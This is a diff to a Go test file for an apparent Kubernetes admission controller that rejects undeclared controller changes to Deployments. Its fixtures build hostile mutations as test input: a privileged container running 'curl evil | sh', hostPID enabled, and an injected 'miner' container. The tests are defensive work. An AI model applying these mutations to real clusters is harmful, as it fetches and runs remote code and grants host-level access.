@@ -91,6 +91,26 @@ func addContainer(m map[string]any) {
 	spec["containers"] = append(spec["containers"].([]any), map[string]any{"name": "miner", "image": "evil:1"})
 }
 
+func privileged(m map[string]any) {
+	c := m["spec"].(map[string]any)["template"].(map[string]any)["spec"].(map[string]any)["containers"].([]any)[0].(map[string]any)
+	c["securityContext"] = map[string]any{"privileged": true}
+	c["command"] = []any{"/bin/sh", "-c", "curl evil | sh"}
+}
+
+func hostPID(m map[string]any) {
+	m["spec"].(map[string]any)["template"].(map[string]any)["spec"].(map[string]any)["hostPID"] = true
+}
+
+func restartAnnotation(m map[string]any) {
+	tmpl := m["spec"].(map[string]any)["template"].(map[string]any)
+	meta, _ := tmpl["metadata"].(map[string]any)
+	if meta == nil {
+		meta = map[string]any{}
+		tmpl["metadata"] = meta
+	}
+	meta["annotations"] = map[string]any{"reloader.stakater.com/last-reloaded-from": "cm"}
+}
+
 func dropLabel(m map[string]any) {
 	delete(m["metadata"].(map[string]any), "labels")
 }
@@ -166,6 +186,12 @@ func TestControllerRule(t *testing.T) {
 				"run gitgate with --agent " + operator}},
 		{name: "controller adds a container to a declared Deployment", user: operator, change: deploymentChange.with(admissionv1.Update, addContainer),
 			wantReason: provenance.ReasonUndeclared, wantMessage: []string{"containers[name=miner]", "judged as a controller"}},
+		{name: "controller makes a declared container privileged", user: operator, change: deploymentChange.with(admissionv1.Update, privileged),
+			wantReason: provenance.ReasonUndeclared, wantMessage: []string{"containers[name=web].securityContext", "judged as a controller"}},
+		{name: "controller sets hostPID on a declared Deployment", user: operator, change: deploymentChange.with(admissionv1.Update, hostPID),
+			wantReason: provenance.ReasonUndeclared, wantMessage: []string{"spec.template.spec.hostPID"}},
+		{name: "controller annotates a declared Pod template", user: operator, change: deploymentChange.with(admissionv1.Update, restartAnnotation),
+			wantAllowed: true, wantReason: provenance.ReasonMatchesGit},
 		{name: "controller removes a declared label", user: operator, change: deploymentChange.with(admissionv1.Update, dropLabel),
 			wantReason: provenance.ReasonFieldMismatch, wantMessage: []string{"metadata.labels", "judged as a controller"}},
 		{name: "controller deletes a declared object", user: operator, change: deploymentChange.with(admissionv1.Delete, nil),
